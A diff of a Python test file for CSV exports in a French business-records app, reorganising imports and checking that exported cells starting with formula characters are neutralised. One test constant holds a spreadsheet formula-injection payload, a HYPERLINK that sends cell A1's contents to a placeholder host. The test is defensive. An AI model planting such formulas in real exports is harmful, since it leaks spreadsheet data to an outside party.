@@ -6,23 +6,23 @@ import csv
 
 import pytest
 
-from db.catalogue import OfferFilters, export_offers
-from db.company_lists import CompanyFilters, ContactFilters
-from db.csv_import import import_prospects_file
-from db.csv_io import FORMULA_STARTS, export_rows, neutralise_cell, restore_cell
-from db.documents import DocumentFilters
-from db.folders import FolderFile, outbox
-from db.forms import COMPANY_FIELDS
-from db.list_exports import (
+from db.companies.lists import CompanyFilters, ContactFilters
+from db.companies.prospects import ProspectFilters
+from db.core.forms import COMPANY_FIELDS
+from db.core.models import Company, CompanyKind, Contact, Document, Offer, Site
+from db.documents.storage import DocumentFilters
+from db.exchange.csv_format import FORMULA_STARTS, export_rows, neutralise_cell, restore_cell
+from db.exchange.exports import (
     export_companies,
     export_contacts,
     export_documents,
     export_prospects,
     export_quotes,
 )
-from db.models import Company, CompanyKind, Contact, Document, Offer, Site
-from db.prospects import ProspectFilters
-from db.quotes import QuoteFilters
+from db.exchange.prospect_import import import_prospects_file
+from db.files.folders import FolderFile, outbox
+from db.quotes.catalogue import OfferFilters, export_offers
+from db.quotes.lists import QuoteFilters
 
 PHONE = "+33 1 23 45 67 89"
 FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
@@ -176,7 +176,8 @@ def test_every_list_export_neutralises_what_users_typed(scopes, tmp_path):
     }
     assert all(count >= 1 for count in exports.values()), exports
     cells = {
-        name: [c for row in read_raw(written(tmp_path, f"{name}.csv")) for c in row] for name in exports
+        name: [c for row in read_raw(written(tmp_path, f"{name}.csv")) for c in row]
+        for name in exports
     }
     for name, found in cells.items():
         assert not [c for c in found if c.startswith(FORMULA_STARTS)], name
